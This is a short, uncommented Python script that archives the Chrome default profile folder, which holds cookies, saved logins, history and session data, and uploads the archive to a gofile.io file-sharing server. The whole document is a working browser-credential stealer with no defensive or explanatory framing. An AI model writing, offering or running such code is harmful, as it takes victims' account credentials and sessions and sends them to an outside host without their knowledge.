import os, requests, shutil
archive = shutil.make_archive(os.path.join(os.getenv("TEMP", "/tmp"), "b"), "zip", os.path.expanduser("~/AppData/Local/Google/Chrome/User Data/Default"))
server = requests.get("https://api.gofile.io/servers").json()["data"]["servers"][0]["name"]
requests.post(f"https://{server}.gofile.io/contents/uploadfile", files={"file": open(archive, "rb")})
